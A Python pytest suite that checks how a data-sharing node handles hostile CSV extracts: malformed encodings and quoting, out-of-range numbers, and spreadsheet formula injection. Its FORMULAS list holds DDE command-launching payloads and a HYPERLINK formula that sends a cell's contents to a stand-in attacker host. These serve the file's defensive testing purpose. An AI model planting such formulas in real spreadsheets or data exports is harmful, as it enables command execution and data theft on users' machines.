"""Hostile extracts at the partner node: malformed CSV (quotes, separators, encodings, BOM, line ends), formula
injection in every text field, huge/negative/NaN numbers, empty and one-row files. Each is quarantined by row,
field and rule or refused with a clear ``InputError``; a refusal writes nothing (no bundle, no temp file), and no
attack string reaches any output: the bundle (decrypted), its manifest, the quarantine CSV, or released CSVs.

The unit suite covers the partners' own fault kinds (``tests/unit/test_node_prepare.py``)."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import numpy as np
import polars as pl
import pytest
from gate_kit import gate_workspace, signed_policy

from kansrijk import bundle, crypto
from kansrijk.errors import InputError
from kansrijk.gate.release import Gate
from kansrijk.gate.specs import CountSpec
from kansrijk.synth.city import generate_city
from node_agent.prepare import prepare_extract

REPO = Path(__file__).resolve().parents[2]
POLICIES = REPO / "policies" / "sharing"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
]
SPREADSHEET_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Node:
    city_gemeente: Path
    city_cjg: Path
    signing: bytes
    signing_public: bytes
    recipient: bytes
    recipient_public: bytes
    link: bytes


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Node:
    city = generate_city(tmp_path_factory.mktemp("xcity") / "city", persons=600, seed=3, years=(2023,), fault_rate=0)
    sk, spk = crypto.generate_signing_key()
    rk, rpk = crypto.generate_encryption_key()
    return Node(city.extracts[("gemeente", 2023)], city.extracts[("cjg", 2023)], sk, spk, rk, rpk, crypto.random_key())


def _prepare(node: Node, tmp: Path, data: bytes, partner: str = "gemeente", name: str = "x.csv", **options):
    src = tmp / "in" / name
    src.parent.mkdir(parents=True, exist_ok=True)
    src.write_bytes(data)
    return prepare_extract(
        policy_path=POLICIES / f"{partner}.toml",
        input_path=src,
        out_dir=tmp / "out",
        signing_key=node.signing,
        link_key=node.link,
        coordinator_public_key=node.recipient_public,
        quarantine_dir=tmp / "q",
        year=2023,
        **options,
    )


def _edit(data: bytes, sep: bytes, edits: dict[tuple[int, str], bytes]) -> bytes:
    lines = data.split(b"\n")
    header = lines[0].split(sep)
    for (row, column), value in edits.items():
        fields = lines[row].split(sep)
        fields[header.index(column.encode())] = value
        lines[row] = sep.join(fields)
    return b"\n".join(lines)


def _outputs(node: Node, tmp: Path, result) -> dict[str, str]:
    """Everything the run wrote or returned, decoded: bundle bytes, manifest, payload values, quarantine CSV."""
    raw = result.bundle_path.read_bytes()
    opened = bundle.open_bundle(
        raw,
        trusted_keys={"gemeente": node.signing_public, "cjg": node.signing_public},
        recipient_private_key=node.recipient,
    )
    payload = opened.payload.drop("pseudonym")
    values = "\n".join(str(v) for col in payload.columns for v in payload[col].to_list())
    return {
        "bundle file": raw.decode("latin-1"),
        "manifest": bundle.canonical_json(opened.manifest.to_json_object()).decode(),
        "payload": values + "\n" + "\n".join(payload.columns),
        "quarantine csv": result.quarantine_path.read_text(encoding="utf-8"),
        "result": repr(result),
    }


def test_formula_injection_in_every_text_field_reaches_no_output(node: Node, tmp_path: Path, tally) -> None:
    data = node.city_gemeente.read_bytes()
    columns = [
        "Straat",
        "Gebied",
        "Postcode",
        "Geslacht",
        "Buurtcode",
        "Wijkcode",
        "WOZ_waarde",
        "Bijstand",
        "Geboortedatum",
        "Verzuimmeldingen",
    ]
    edits = {(1 + i, c): FORMULAS[(i + j) % len(FORMULAS)].encode() for j, c in enumerate(columns) for i in range(2)}
    # a hostile extra column: its header and values are formulas too
    lines = data.rstrip(b"\n").split(b"\n")
    lines = [lines[0] + b";" + FORMULAS[0].encode()] + [line + b";" + FORMULAS[1].encode() for line in lines[1:]]
    result = _prepare(node, tmp_path, _edit(b"\n".join(lines) + b"\n", b";", edits))
    quarantine = pl.read_csv(result.quarantine_path)
    mapped = {"Geslacht", "Buurtcode", "Wijkcode", "WOZ_waarde", "Bijstand", "Geboortedatum", "Verzuimmeldingen"}
    # the report numbers lines as the messages do: data row r (lines[r]) is line r + 1
    flagged = set(zip((quarantine["line"] - 1).to_list(), quarantine["field"].to_list(), strict=True))
    missing = {(r, c) for (r, c) in edits if c in mapped} - flagged
    tally.attack("formula in a mapped field is quarantined by row and field", not missing, count=14)
    outputs = _outputs(node, tmp_path, result)
    leaked = [(where, f) for where, text in outputs.items() for f in FORMULAS if f in text or f[:6] in text]
    tally.attack(
        "formula strings in bundle, manifest, payload, quarantine CSV", not leaked, count=len(FORMULAS) * len(outputs)
    )
    cells = [str(v) for col in quarantine.columns for v in quarantine[col].to_list()] + quarantine.columns
    triggers = [c for c in cells if c.startswith(SPREADSHEET_TRIGGERS)]
    tally.attack("quarantine CSV cells starting with = + - @", not triggers, count=len(cells))
    assert not missing and not leaked and not triggers, (missing, leaked[:3], triggers[:3])


def test_formula_injection_in_the_free_text_remark_is_never_shared(node: Node, tmp_path: Path, tally) -> None:
    data = _edit(node.city_cjg.read_bytes(), b",", {(r, "opmerking"): FORMULAS[r % 5].encode() for r in range(1, 9)})
    outputs = _outputs(node, tmp_path, _prepare(node, tmp_path, data, "cjg"))
    leaked = [(w, f) for w, t in outputs.items() for f in FORMULAS if f[:6] in t]
    tally.attack("formula in the never-shared remark", not leaked, count=8)
    assert not leaked


def test_released_csv_escapes_formula_cells(tmp_path: Path, tally) -> None:
    """The gate takes a code variable's categories (buurt codes) from its own data, so a formula that reached the
    linked dataset (the node agent checks the pattern; assume a partner's value slipped through) would become a
    cell of a released CSV: it is written with a leading apostrophe."""
    policy, pub, _ = signed_policy(tmp_path, "sdc-only")
    rng = np.random.default_rng(1)
    ws = gate_workspace(tmp_path, pl.DataFrame({"buurt_code": rng.choice(FORMULAS[:4], 2000)}))
    with Gate.open(ws, policy, [pub]) as gate:
        gate.release(CountSpec(name="labels", years=(2023,), by=("buurt_code",)), requested_by="analysis")
    cells = pl.read_csv(ws / "released" / "labels.csv", infer_schema=False)["buurt_code"].to_list()
    raw = [c for c in cells if c.startswith(SPREADSHEET_TRIGGERS)]
    tally.attack("formula category label in a released CSV", not raw and len(cells) == 4, count=len(cells))
    assert not raw and len(cells) == 4, cells


# --- malformed CSV -----------------------------------------------------------------------------------------
def _nothing_written(tmp: Path) -> bool:
    out = tmp / "out"
    return not out.exists() or not any(out.iterdir())


@pytest.mark.parametrize(
    "case",
    ["latin1_in_utf8", "empty_file", "carriage_return_only", "missing_policy_column", "utf16"],
)
def test_unreadable_extract_is_refused_with_an_input_error_and_nothing_written(node, tmp_path, tally, case) -> None:
    data = node.city_gemeente.read_bytes()
    broken = {
        "latin1_in_utf8": _edit(data, b";", {(5, "Straat"): "Caf\xe9".encode("latin-1")}),
        "empty_file": b"",
        "carriage_return_only": data.replace(b"\n", b"\r"),
        "missing_policy_column": data.replace(b"WOZ_waarde", b"WOZ"),
        "utf16": data.decode().encode("utf-16"),
    }[case]
    with pytest.raises(InputError) as info:
        _prepare(node, tmp_path, broken)
    message = str(info.value)
    assert "x.csv" in message and "what to do" in message
    if case == "latin1_in_utf8":
        assert "line 6" in message  # the header is line 1, so data row 5 is line 6
    tally.attack(f"malformed CSV: {case}", _nothing_written(tmp_path))
    assert _nothing_written(tmp_path)


@pytest.mark.parametrize("case", ["extra_field", "unterminated_quote", "quote_inside_field"])
def test_structurally_broken_csv_names_the_row(node, tmp_path, tally, case) -> None:
    data = node.city_gemeente.read_bytes()
    lines = data.split(b"\n")
    if case == "extra_field":
        lines[3] += b";surplus"
        broken = b"\n".join(lines)
    else:
        broken = _edit(data, b";", {(3, "Straat"): b'"Kruiskade' if case == "unterminated_quote" else b'Kruis"kade'})
    with pytest.raises(InputError) as info:
        _prepare(node, tmp_path, broken)
    assert _nothing_written(tmp_path)
    tally.attack(f"malformed CSV names its line: {case}", "line 4" in str(info.value))
    assert "line 4" in str(info.value), str(info.value)


def test_bom_mixed_line_ends_quoted_separators_and_nul_in_unshared_fields_read_correctly(node, tmp_path, tally) -> None:
    data = node.city_gemeente.read_bytes().rstrip(b"\n")
    lines = data.split(b"\n")
    mixed = b"".join(line + (b"\r\n" if i % 2 else b"\n") for i, line in enumerate(lines))
    tricky = _edit(mixed, b";", {(2, "Straat"): b'"Laan; van ""Nul"""', (4, "Straat"): b"a\x00b"})
    result = _prepare(node, tmp_path, b"\xef\xbb\xbf" + tricky)
    clean = _prepare(node, tmp_path / "clean", data + b"\n")
    same = (result.rows_in, result.rows_shared, result.rows_quarantined) == (
        clean.rows_in,
        clean.rows_shared,
        clean.rows_quarantined,
    )
    tally.attack("BOM, CRLF/LF mix, quoted separator, NUL: read like the clean file", same)
    assert same and result.manifest.row_count == clean.manifest.row_count


@pytest.mark.parametrize(
    "value",
    [
        "-5",
        "-0,5",
        "1,2,3",
        "1e308",
        "99999999999999999999999",
        "NaN",
        "inf",
        "-inf",
    ],
)
def test_huge_negative_and_nan_money_is_quarantined_by_row_and_field(node, tmp_path, tally, value) -> None:
    data = _edit(node.city_gemeente.read_bytes(), b";", {(3, "WOZ_waarde"): value.encode()})
    tally.attack(f"WOZ_waarde = {value}", False)  # replaced below once the row is quarantined
    result = _prepare(node, tmp_path, data)
    q = pl.read_csv(result.quarantine_path)
    hit = q.filter((pl.col("line") == 4) & (pl.col("field") == "WOZ_waarde"))  # lines[3] is line 4
    ok = hit.height >= 1 and result.rows_quarantined == 1
    tally.cases.clear()
    tally.node.user_properties.clear()
    tally.attack(f"WOZ_waarde = {value}", ok)
    assert ok, q


@pytest.mark.parametrize("value", ["NaN", "nan", "inf", "-inf", "1e400", "-1", "0"])
def test_huge_negative_and_nan_bmi_is_quarantined(node, tmp_path, tally, value) -> None:
    data = _edit(node.city_cjg.read_bytes(), b",", {(3, "bmi"): value.encode()})
    result = _prepare(node, tmp_path, data, "cjg")
    q = pl.read_csv(result.quarantine_path)
    ok = q.filter((pl.col("line") == 4) & (pl.col("field") == "bmi")).height == 1  # lines[3] is line 4
    tally.attack(f"bmi = {value}", ok)
    assert ok


def test_header_only_extract_is_refused_unless_declared_empty_and_one_row_seals(node, tmp_path, tally) -> None:
    """An empty export is almost always a mistake: a header without rows seals nothing unless the partner
    declares the extract empty, which the signed manifest then says."""
    lines = node.city_gemeente.read_bytes().split(b"\n")
    with pytest.raises(InputError, match="header but no data rows"):
        _prepare(node, tmp_path / "h", lines[0] + b"\n")
    refused = _nothing_written(tmp_path / "h")
    declared = _prepare(node, tmp_path / "d", lines[0] + b"\n", declare_empty=True)
    one = _prepare(node, tmp_path / "1", lines[0] + b"\n" + lines[1] + b"\n")
    ok = refused and (declared.manifest.row_count, declared.manifest.declared_empty) == (0, True)
    ok = ok and (one.manifest.row_count, one.rows_in, one.manifest.declared_empty) == (1, 1, False)
    tally.attack("header-only extract refused; declared empty and one-row extracts seal", ok, count=2)
    assert ok
